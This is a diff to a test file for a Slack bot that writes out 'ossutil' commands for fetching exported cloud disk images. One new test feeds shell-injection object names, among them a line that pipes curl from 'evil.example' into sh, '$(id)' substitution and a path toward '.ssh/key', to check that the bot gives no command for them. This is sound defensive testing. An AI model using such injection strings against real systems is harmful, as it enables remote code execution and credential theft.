@@ -1,9 +1,10 @@
 import { describe, expect, it } from 'vitest';
+import type { ClockOff } from '../../src/domain/clock-offset.ts';
 import type { ExportRequest } from '../../src/domain/export-request.ts';
 import { directNote, threadNote } from '../../src/slack/notes.ts';
 import { textsIn } from '../../src/slack/texts/texts-in.ts';
 import type { ClosedBecause } from '../../src/workflow/channel-closed.ts';
-import type { Note } from '../../src/workflow/ports.ts';
+import type { Note } from '../../src/workflow/messenger-ports.ts';
 import { allRequests, aRequest, denied, people, refusal, task } from './a-request.ts';
 import { drawn } from './drawn.ts';
 
@@ -43,7 +44,24 @@ describe('a reply in the thread', () => {
     const words = drawn(reply(ended, aRequest('exported', { objects: ['a_system', 'a_xvdb'] })));
 
     expect(words).toContain('To fetch them:');
-    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp oss://acme-exports/${name} .`);
+    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp 'oss://acme-exports/${name}' .`);
+  });
+
+  it.each([
+    "a'; curl evil.example | sh #",
+    'a b',
+    'a$(id)',
+    'a`id`',
+    'a\nb',
+    'ä',
+    '*',
+    '../../.ssh/key',
+    'x'.repeat(200),
+  ])('gives no command to copy for an object called %j', (name) => {
+    const words = drawn(reply(ended, aRequest('exported', { objects: [name, 'dir/a_system-1.raw'] })));
+
+    expect(words.match(/ossutil/g)).toHaveLength(1);
+    expect(words).toContain("To fetch it: ossutil cp 'oss://acme-exports/dir/a_system-1.raw' .");
   });
 
   it('gives the id of a task that has failed already', () => {
@@ -154,7 +172,7 @@ describe('a reply in the thread', () => {
 
     expect(words).toContain('dr7k2_e.raw.tar.gz and 2 more in acme-exports (raw).');
     expect(words).not.toContain('dr7k2_f');
-    expect(words).toContain('ossutil cp oss://acme-exports/dr7k2_a.raw.tar.gz .');
+    expect(words).toContain("ossutil cp 'oss://acme-exports/dr7k2_a.raw.tar.gz' .");
   });
 
   it('repeats at most three reasons of a task with many disks', () => {
@@ -167,7 +185,7 @@ describe('a reply in the thread', () => {
 
   it.each([
     ['lost-answer', 'I lost the answer of Alibaba Cloud. The export may be running.'],
-    ['redis-restarted', 'My memory was restarted since this was asked'],
+    ['redis-restarted', 'Redis was restarted or failed over since this was asked'],
   ] as const)('says why it is unsure: %s', (cause, words) => {
     const request = aRequest('starting', { doubt: { cause } });
 
@@ -175,7 +193,7 @@ describe('a reply in the thread', () => {
     expect(drawn(reply(note('unsure'), request))).toContain('will not start it again before I know');
   });
 
-  it.each(['busy', 'image-exporting', 'image-claimed', 'quota', 'bucket-unproven'] as const)(
+  it.each(['busy', 'image-exporting', 'image-claimed', 'task-unclear', 'quota', 'bucket-unproven'] as const)(
     'says until when it tries again by itself: %s',
     (reason) => {
       const request = aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason, refusal } });
@@ -186,6 +204,23 @@ describe('a reply in the thread', () => {
       expect(words).toContain('Who can fix it: an Alibaba Cloud administrator');
     },
   );
+});
+
+describe('a wait for a clock', () => {
+  const on = (clockOff: ClockOff) =>
+    aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason: 'clock-off', clockOff } });
+
+  it.each([
+    [{ clock: 'bot', ahead: 480_000 } as const, "The bot's clock is 8 min ahead of Alibaba Cloud's."],
+    [{ clock: 'bot', ahead: -95_000 } as const, "The bot's clock is 2 min behind Alibaba Cloud's."],
+    [{ clock: 'redis', ahead: 480_000 } as const, "The clock of Redis is 8 min ahead of the bot's."],
+  ])('says how far it is off and who can fix it: %j', (clockOff, words) => {
+    const said = drawn(reply(note('waiting'), on(clockOff)));
+
+    expect(said).toMatch(/^Waiting\. A clock is off, .+ I try again by myself until .+ Nothing has started\./);
+    expect(said).toContain(`${words} Who can fix it: the bot's operator.`);
+    expect(said).not.toContain('nothing to do');
+  });
 });
 
 describe('a direct message', () => {
